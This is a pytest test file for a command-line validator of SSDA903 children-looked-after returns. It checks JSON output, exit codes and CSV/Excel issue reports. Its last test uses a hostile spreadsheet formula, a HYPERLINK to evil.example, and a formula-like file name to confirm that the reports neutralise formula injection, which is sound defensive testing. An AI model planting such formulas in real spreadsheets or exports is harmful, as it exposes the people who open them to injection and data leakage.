"""`cld validate` end to end: the JSON contract, human output, reports, exit codes."""

from __future__ import annotations

import json

import polars as pl
import pytest
from builders import csv_bytes
from openpyxl import load_workbook

from cld.cli.app import run

EPISODES = """
CHILD,DECOM,RNE,LS,CIN,PLACE,PLACE_PROVIDER,DEC,REC,REASON_PLACE_CHANGE,HOME_POST,PL_POST,URN
C1,01/04/2023,S,C2,N1,Z9,PR1,,,,,,
C2,01/04/2023,S,C2,N1,U1,PR1,,,,,,
"""
HEADER = """
CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB
C1,1,01/02/2010,WBRI,A123456789012,,
C2,2,01/02/2011,WBRI,A123456789013,,
"""


@pytest.fixture
def files(tmp_path):
    (tmp_path / "SSDA903_2024_episodes.csv").write_bytes(csv_bytes(EPISODES))
    (tmp_path / "SSDA903_2024_header.csv").write_bytes(csv_bytes(HEADER))
    (tmp_path / "junk.csv").write_bytes(b"\x00\x01PK\x03\x04 not text")
    return tmp_path


def run_json(capsys, *args):
    code = run(["validate", "--json", *map(str, args)])
    return code, json.loads(capsys.readouterr().out)


def test_json_contract(files, capsys):
    code, payload = run_json(
        capsys, files / "SSDA903_2024_episodes.csv", files / "SSDA903_2024_header.csv"
    )
    assert code == 0  # data issues are not failures
    assert list(payload) == ["files"]
    episodes, header = payload["files"]
    assert set(episodes) == {
        "file",
        "dataset",
        "year",
        "year_reason",
        "term",
        "tables",
        "error",
        "issues",
        "dfe_rules",
    }
    assert episodes["dataset"] == "ssda903"
    assert episodes["year"] == 2024
    assert episodes["tables"] == {"episodes": 2}
    assert episodes["error"] is None
    assert episodes["year_reason"].startswith("2024 (the year ending 31 March 2024")
    issue, rule = episodes["issues"]  # the cell refused, and the DfE's rule 146
    assert rule == {
        "table": "episodes",
        "row": 2,
        "column": "PLACE",
        "code": "dfe_rule",
        "severity": "error",
        "message": "Placement type code is not a valid code.",
        "rule": "146",
    }
    assert episodes["dfe_rules"]["failed"] == 1
    assert "146" in episodes["dfe_rules"]["run"]
    assert issue == {
        "table": "episodes",
        "row": 2,
        "column": "PLACE",
        "code": "invalid_category",
        "severity": "error",
        "message": issue["message"],
        "rule": None,
    }
    assert issue["message"].startswith("PLACE 'Z9' is not a placement type code")
    assert header["tables"] == {"header": 2} and header["issues"] == []


def test_a_bad_file_gets_an_error_and_the_others_are_still_reported(files, capsys):
    code, payload = run_json(
        capsys,
        files / "junk.csv",
        files / "missing.csv",
        files / "SSDA903_2024_header.csv",
    )
    assert code == 2
    junk, missing, header = payload["files"]
    assert junk["error"] == "this is not a text (CSV) file: it holds binary data"
    assert junk["dataset"] is None and junk["tables"] == {} and junk["issues"] == []
    assert missing["error"] == "no such file"
    assert header["error"] is None and header["tables"] == {"header": 2}


def test_year_option_in_any_council_spelling(files, capsys):
    (files / "episodes.csv").write_bytes(csv_bytes(EPISODES))
    code, payload = run_json(capsys, "--year", "2023/24", files / "episodes.csv")
    assert code == 0
    assert payload["files"][0]["year"] == 2024
    assert payload["files"][0]["year_reason"] == "2024, given with --year"
    code, payload = run_json(capsys, files / "episodes.csv")
    assert code == 2
    assert "pass --year" in payload["files"][0]["error"]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--year", "next year"], "is not a collection year"),
        (["--la", "Atlantis"], "unknown local authority"),
        (["--report", "issues.pdf"], "must end in .csv or .xlsx"),
    ],
)
def test_wrong_options_exit_2_with_a_message(files, capsys, args, message):
    code = run(["validate", *args, str(files / "SSDA903_2024_header.csv")])
    assert code == 2
    assert message in capsys.readouterr().err


def test_no_files_is_a_usage_error(capsys):
    assert run(["validate"]) == 2


def test_human_output(files, capsys):
    code = run(
        [
            "validate",
            "--la",
            "CAM",
            str(files / "SSDA903_2024_episodes.csv"),
            str(files / "junk.csv"),
        ]
    )
    out = " ".join(capsys.readouterr().out.split())
    assert code == 2
    assert "SSDA903 children looked after return, episodes (2 rows)" in out
    assert "2 errors, 0 warnings" in out
    assert "PLACE 'Z9' is not a placement type code for 2024" in out
    assert "DfE rules: 10 run, 1 failed on 1 rows; 18 not run (missing tables)" in out
    assert "junk.csv: this is not a text (CSV) file" in out
    assert "Checked 2 files for Camden" in out


def test_human_output_limits_issues_on_screen(files, capsys):
    run(["validate", "--max-issues", "0", str(files / "SSDA903_2024_episodes.csv")])
    assert "and 2 more issues" in capsys.readouterr().out


def test_reports_as_csv_and_excel(files, capsys, tmp_path):
    inputs = [str(files / n) for n in ("SSDA903_2024_episodes.csv", "junk.csv")]
    assert run(["validate", "--report", str(tmp_path / "out" / "r.csv"), *inputs]) == 2
    report = pl.read_csv(tmp_path / "out" / "r.csv")
    assert report.columns == [
        "file",
        "table",
        "row",
        "column",
        "code",
        "severity",
        "message",
        "rule",
    ]
    assert report["code"].to_list() == ["invalid_category", "dfe_rule"]
    assert report["rule"].cast(pl.String).to_list() == [None, "146"]

    assert run(["validate", "--report", str(tmp_path / "r.xlsx"), *inputs]) == 2
    book = load_workbook(tmp_path / "r.xlsx")
    assert book.sheetnames == ["Summary", "SSDA903_2024_episodes", "junk"]
    summary = list(book["Summary"].values)
    assert summary[0][:3] == ("file", "dataset", "year")
    assert summary[2][-1] == "this is not a text (CSV) file: it holds binary data"
    sheet = book["SSDA903_2024_episodes"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:G3"
    rows = list(sheet.values)
    assert rows[0] == ("table", "row", "column", "code", "severity", "message", "rule")
    assert rows[1][:5] == ("episodes", 2, "PLACE", "invalid_category", "error")
    assert rows[2][3:] == (
        "dfe_rule",
        "error",
        "Placement type code is not a valid code.",
        "146",
    )
    assert not list(tmp_path.glob("*.xlsx.tmp*"))


HOSTILE_HEADING = '=HYPERLINK("http://evil.example/?x","Click me")'


def test_reports_never_hold_a_formula(tmp_path, monkeypatch):
    """A file named like a formula and a column headed with one are text in both
    reports: quoted with an apostrophe in the CSV, a text cell in the workbook."""
    hostile = tmp_path / "=SUM(2324).csv"
    hostile.write_bytes(
        csv_bytes(
            EPISODES.replace(
                "URN\n", f'URN,"{HOSTILE_HEADING.replace(chr(34), chr(34) * 2)}"\n'
            )
        )
    )
    monkeypatch.chdir(tmp_path)
    run(["validate", "--report", "r.csv", hostile.name])
    report = pl.read_csv(tmp_path / "r.csv")
    cells = [c for column in report.iter_columns() for c in column.cast(pl.String)]
    assert "'=SUM(2324).csv" in cells
    assert f"'{HOSTILE_HEADING}" in cells
    assert not any(str(c).startswith(("=", "+", "@")) for c in cells if c)

    run(["validate", "--report", "r.xlsx", hostile.name])
    book = load_workbook(tmp_path / "r.xlsx")
    written = [
        cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
    ]
    assert {c.value for c in written} >= {"'=SUM(2324).csv", f"'{HOSTILE_HEADING}"}
    assert all(c.data_type != "f" for c in written)
    assert not any(str(c.value).startswith("=") for c in written)
